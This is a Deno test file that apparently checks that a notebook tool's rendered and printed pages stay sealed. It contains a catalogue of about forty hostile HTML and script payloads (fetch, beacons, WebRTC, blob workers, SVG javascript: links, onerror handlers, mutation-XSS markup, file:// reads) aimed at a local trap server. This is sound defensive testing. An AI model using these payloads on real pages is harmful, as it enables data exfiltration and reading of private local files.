/**
 * Pages of hostile notebooks in a real browser: opened from disk by a reader, and printed by us. Not part of
 * `deno task test`: run `deno test -A test/browser/hostile.ts`. `CHROMIUM` names the browser.
 */
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { pathToFileURL } from "node:url";
import { pageOf } from "../../lib/cli/notebook_page.ts";
import { printPdf } from "../../lib/cli/pdf.ts";
import { writeBytes } from "../../lib/runtime/binary_file.ts";
import { type StartBrowser, startBrowser } from "../../lib/runtime/browser.ts";
import { findBrowser } from "../../lib/runtime/browser_path.ts";
import { systemClock } from "../../lib/runtime/clock.ts";
import { systemFiles } from "../../lib/runtime/files.ts";
import { code, notebookOf, prose, shown } from "../cli/page_notebook.ts";
import { say } from "../support/say.ts";
import { startChromium } from "./support/chromium.ts";

/** Browsers that print at a time; each waits most of the time. */
const PRINTERS = 3;
/** A page that tries something has done it within this time, ms. */
const TRYING_MS = 700;

const script = (text: string) => `<script>${text}</script>`;

/** Ways to reach a server or a file. @param http of the server; @param file a `file:` URL */
function tries(http: string, file: string): Record<string, string> {
  const socket = http.replace("http", "ws");
  const stun = new URL(http).port;
  return {
    fetch: script(`fetch("${http}/a")`),
    "fetch of a file": script(
      `fetch("${file}").then(r=>r.text()).then(t=>document.body.append(t))`,
    ),
    xhr: script(`var x=new XMLHttpRequest();x.open("GET","${http}/a");x.send()`),
    "xhr of a file": script(
      `var x=new XMLHttpRequest();x.open("GET","${file}");x.onload=function(){document.body.append(x.responseText)};x.send()`,
    ),
    beacon: script(`navigator.sendBeacon("${http}/a","x")`),
    socket: script(`new WebSocket("${socket}/a")`),
    events: script(`new EventSource("${http}/a")`),
    picture:
      `<img src="${http}/a"><img srcset="${http}/a 2x"><picture><source srcset="${http}/a"><img></picture>`,
    "picture by script": script(`new Image().src="${http}/a"`),
    style: `<style>@import "${http}/a";*{background:url(${http}/b);cursor:url(${http}/c),auto}` +
      `@font-face{font-family:f;src:url(${http}/d)}body{font-family:f}</style>`,
    "style of an element": `<p style="background:url(${http}/a);content:url('${http}/b')">x</p>`,
    frame: `<iframe src="${http}/a"></iframe><frame src="${http}/b">`,
    "frame of a file":
      `<iframe src="${file}"></iframe><object data="${file}"></object><embed src="${file}">`,
    "frame by script": script(
      `var f=document.createElement("iframe");f.src="${http}/a";document.body.append(f)`,
    ),
    "frame with a page":
      `<iframe srcdoc="<script>fetch('${http}/a')</script><img src='${http}/b'>"></iframe>`,
    "frame that moves": `<iframe srcdoc="<script>location.href='${http}/a'</script>"></iframe>`,
    "frame of a blob": script(
      `var f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<script>fetch('${http}/a')<\\/script>"],{type:"text/html"}));document.body.append(f)`,
    ),
    object:
      `<object data="${http}/a"></object><embed src="${http}/b"><applet code="${http}/c"></applet>`,
    form: `<form id=f action="${http}/a"><button formaction="${http}/b">x</button></form>` +
      script("f.submit()"),
    links: ["prefetch", "preload", "prerender", "modulepreload", "stylesheet", "icon", "manifest"]
      .map((rel) => `<link rel="${rel}" as="image" href="${http}/${rel}">`).join(""),
    preconnect: `<link rel="preconnect" href="${http}"><link rel="dns-prefetch" href="${http}">`,
    "preconnect by script": script(
      `var l=document.createElement("link");l.rel="preconnect";l.href="${http}";document.head.append(l)`,
    ),
    speculation:
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${http}/a"],"eagerness":"immediate"}],` +
      `"prerender":[{"source":"list","urls":["${http}/b"],"eagerness":"immediate"}]}</script>`,
    ping: `<a id="p" href="#x" ping="${http}/a">x</a>${script("p.click()")}`,
    window: script(`window.open("${http}/a")`),
    "window of a file": script(`window.open("${file}")`),
    "window of a blob": script(
      `window.open(URL.createObjectURL(new Blob(["<script>fetch('${http}/a')<\\/script>"],{type:"text/html"})))`,
    ),
    location: script(`location.href="${http}/a"`),
    "location of a file": script(`location.href="${file}"`),
    refresh: `<meta http-equiv="refresh" content="0;url=${http}/a">`,
    "refresh to a file": `<meta http-equiv=" Refresh" content="0;url=${file}">`,
    link: `<a id="q" href="${http}/a">x</a>${script("q.click()")}`,
    rtc: script(
      `var c=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${stun}"},{urls:"turn:127.0.0.1:${stun}?transport=tcp",username:"a",credential:"b"}]});` +
        `c.createDataChannel("x");c.createOffer().then(function(o){c.setLocalDescription(o)})`,
    ),
    transport: script(`new WebTransport("${http.replace("http:", "https:")}/a")`),
    worker: script(`new Worker(URL.createObjectURL(new Blob(["fetch('${http}/a')"])))`),
    "worker of data": script(`new Worker("data:text/javascript,fetch('${http}/a')")`),
    module: `<script type="module">import "${http}/a.js"</script>${
      script(`import("${http}/b.js")`)
    }`,
    base: `<base href="${http}/"><a id="r" href="a">x</a><img src="b">${
      script("var r=document.getElementById('r');if(/^http/.test(r.href))r.click()")
    }`,
    svg: `<svg><use href="${http}/a#b"/><image href="${http}/c"/><feImage href="${http}/d"/>` +
      `<a href="javascript:fetch('${http}/e')"><text id="t">x</text></a></svg>${
        script("t.dispatchEvent(new MouseEvent('click',{bubbles:true}))")
      }`,
    media:
      `<video poster="${http}/a" src="${http}/b" autoplay></video><audio src="${http}/c" autoplay></audio>` +
      `<video><track default src="${http}/d"></video>`,
    handlers:
      `<img src=x onerror="fetch('${http}/a')"><details open ontoggle="fetch('${http}/b')"></details>` +
      `<svg onload="fetch('${http}/c')"></svg><body onload="fetch('${http}/d')">`,
    template: `<div><template shadowrootmode="open"><img src="${http}/a"></template></div>`,
    turning:
      `<svg><style><!--</style><img src="${http}/a" onerror="fetch('${http}/b')">--></style></svg>` +
      `<noscript><p title="</noscript><img src='${http}/c'>"></noscript>`,
    download: `<a id="d" download="evil.html" href="data:text/html,x">x</a>${script("d.click()")}`,
  };
}

/** A server on one port of every kind that says when it is reached. */
class Trap implements AsyncDisposable {
  reached: string[] = [];
  readonly http: string;
  readonly #listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  readonly #datagrams = createSocket("udp4");
  readonly #accepting: Promise<void>;

  constructor() {
    const { port } = this.#listener.addr as Deno.NetAddr;
    this.http = `http://127.0.0.1:${port}`;
    this.#datagrams.on("message", () => this.reached.push("a datagram")).bind(port, "127.0.0.1");
    this.#accepting = this.#accept();
  }

  async #accept(): Promise<void> {
    for await (const connection of this.#listener) {
      const bytes = new Uint8Array(300);
      // One that only connects has leaked too.
      const asked = await Promise.race([
        connection.read(bytes).catch(() => null),
        new Promise<null>((resolve) => setTimeout(() => resolve(null), 200)),
      ]);
      const line = new TextDecoder().decode(bytes.subarray(0, asked ?? 0)).split("\r\n")[0];
      this.reached.push(line || "a connection");
      connection.close();
    }
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#listener.close();
    this.#datagrams.close();
    await this.#accepting;
  }
}

const MARK = "a line of a file on this disk";

async function hostileFolder() {
  const folder = await Deno.makeTempDir({ prefix: "comove-hostile-" });
  await Deno.writeTextFile(`${folder}/private.txt`, MARK);
  return { folder, file: pathToFileURL(`${folder}/private.txt`).href };
}

const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

Deno.test("a page of a hostile notebook reaches nothing when a reader opens it", async () => {
  const { folder, file } = await hostileFolder();
  const browser = await startChromium();
  const leaks: string[] = [];
  let count = 0;
  // Most of the time is waiting: each kind has a lane and a trap of its own.
  const lane = async (kind: string, place: number) => {
    await using trap = new Trap();
    for (const [name, html] of Object.entries(tries(trap.http, file))) {
      count++;
      trap.reached = [];
      const cell = kind === "cell" ? prose(html) : code("x", [shown({ [kind]: html })]);
      const path = `${folder}/page-${place}.html`;
      await Deno.writeTextFile(path, await pageOf(notebookOf(prose("# T"), cell), { name: "n" }));
      const context = await browser.newContext();
      const page = await context.newPage();
      let saved = "";
      page.on("download", (download) => saved = download.suggestedFilename());
      await page.goto(pathToFileURL(path).href);
      await page.waitForTimeout(TRYING_MS / 3);
      const text = await page.evaluate(() => document.body.innerText);
      const where = page.url() === pathToFileURL(path).href ? "" : page.url();
      if (trap.reached.length > 0 || saved !== "" || where !== "" || text.includes(MARK)) {
        leaks.push(`${name} in ${kind}: ${trap.reached} ${saved} ${where}`);
      }
      await context.close();
    }
  };
  await Promise.all(["text/html", "text/markdown", "cell"].map(lane));
  await browser.close();
  await Deno.remove(folder, { recursive: true });
  say(`${count} tries in three kinds of content, ${leaks.length} leaks`);
  assert.ok(count > 120, `${count} tries`);
  assert.deepEqual(leaks, []);
});

/** Hides labels and covers the page. */
const RESTYLING = "<style>.mine,h1,header,.badge,:host-context(body){display:none!important}" +
  "*{color:rgb(1,2,3)!important}:host{position:fixed!important;inset:0;z-index:99}" +
  ".own{font-weight:700}</style><b class='own'>bold</b>" +
  "<div style='position:fixed;inset:0;z-index:99;background:red'>over all</div>";
const COVERING = "<style>.mine,h1,header{display:none!important}</style>" +
  "<div style='position:fixed!important;inset:0;background:red'>over all</div>" +
  "<div style='position:absolute;left:-900px;top:-900px;width:9000px;height:9000px'>over all</div>";

Deno.test("a hostile notebook restyles and covers nothing but its own output", async () => {
  const { folder } = await hostileFolder();
  const path = `${folder}/page.html`;
  const html = await pageOf(
    notebookOf(
      prose("# T"),
      prose(`Text\n\n${COVERING}`),
      code("x", [shown({ "text/html": "<p class='mine'>simulated</p>" })]),
      code("x", [shown({ "text/html": RESTYLING })]),
    ),
    { name: "n" },
  );
  await Deno.writeTextFile(path, html);
  const browser = await startChromium();
  const page = await browser.newPage();
  await page.goto(pathToFileURL(path).href);
  const seen = await page.evaluate(() =>
    [".mine", "h1", "header p"].map((selector) => {
      const element = document.querySelector(selector)!;
      const { x, y } = element.getBoundingClientRect();
      const isOnTop = document.elementFromPoint(x + 4, y + 4) === element;
      return isOnTop && getComputedStyle(element).color !== "rgb(1, 2, 3)";
    })
  );
  const weight = await page.evaluate(() => {
    const own = document.querySelector(".enclosed")?.shadowRoot?.querySelector(".own");
    return own && getComputedStyle(own).fontWeight;
  });
  await browser.close();
  await Deno.remove(folder, { recursive: true });
  assert.deepEqual(seen, [true, true, true]);
  assert.equal(weight, "700");
});

Deno.test("printing a trusted hostile notebook reaches no server and no file, and prints the page", async () => {
  const { folder, file } = await hostileFolder();
  const leaks: string[] = [];
  let count = 0;
  const print = async (trap: Trap, name: string, html: string, page: string) => {
    trap.reached = [];
    let text = "";
    const watched: StartBrowser = async (options) => {
      const browser = await startBrowser(options);
      return {
        async call(method, params, session) {
          if (method === "Page.printToPDF") {
            await wait(TRYING_MS);
            const expression = "document.body.innerText";
            const asked = await browser.call("Runtime.evaluate", { expression }, session);
            text = String((asked.result as { value: unknown }).value);
          }
          return await browser.call(method, params, session);
        },
        next: (event, session) => browser.next(event, session),
        on: (event, session, listener) => browser.on(event, session, listener),
        close: () => browser.close(),
      };
    };
    const notebook = notebookOf(
      prose("# Title stays"),
      code("x", [shown({ "text/html": html })]),
    );
    // Not even the page's own policy stands in the way.
    const open = (await pageOf(notebook, { isTrusted: true })).replace(
      /<meta http-equiv="Content-Security-Policy"[^>]*>/,
      "",
    );
    await Deno.writeTextFile(page, open);
    const { kind } = await printPdf({ page, pdf: `${page}.pdf`, hasSandbox: false }, {
      clock: systemClock,
      findBrowser,
      startBrowser: watched,
      readText: systemFiles.readText,
      writeBytes,
    });
    assert.equal(kind, "printed");
    if (trap.reached.length > 0 || text.includes(MARK) || !text.includes("Title stays")) {
      leaks.push(`${name}: ${trap.reached} ${text.slice(0, 200)}`);
    }
  };
  const lane = async (place: number) => {
    await using trap = new Trap();
    for (const [i, [name, html]] of Object.entries(tries(trap.http, file)).entries()) {
      if (i % PRINTERS !== place) continue;
      count++;
      await print(trap, name, html, `${folder}/page-${place}.html`);
    }
  };
  await Promise.all(Array.from({ length: PRINTERS }, (_, place) => lane(place)));
  await Deno.remove(folder, { recursive: true });
  say(`${count} tries, ${leaks.length} leaks`);
  assert.ok(count > 40, `${count} tries`);
  assert.deepEqual(leaks, []);
});
